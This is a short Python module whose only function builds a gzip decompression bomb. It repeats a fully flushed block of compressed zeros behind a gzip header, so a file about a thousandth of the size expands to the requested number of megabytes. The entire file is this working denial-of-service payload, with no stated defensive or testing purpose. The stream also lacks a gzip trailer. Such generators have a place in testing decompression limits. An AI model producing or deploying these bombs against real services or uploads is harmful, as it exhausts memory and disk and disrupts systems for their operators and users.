"""Small things that unpack to huge ones."""

import zlib


def gzip_bomb(megabytes: int) -> bytes:
    """A gzip stream of that many megabytes of zeros, about a thousandth of it in size, made without unpacking it.

    A full flush ends on a byte and forgets the past (RFC 1951), so one compressed megabyte may simply be repeated.
    """
    engine = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = engine.compress(bytes(1_000_000)) + engine.flush(zlib.Z_FULL_FLUSH)
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + block * megabytes
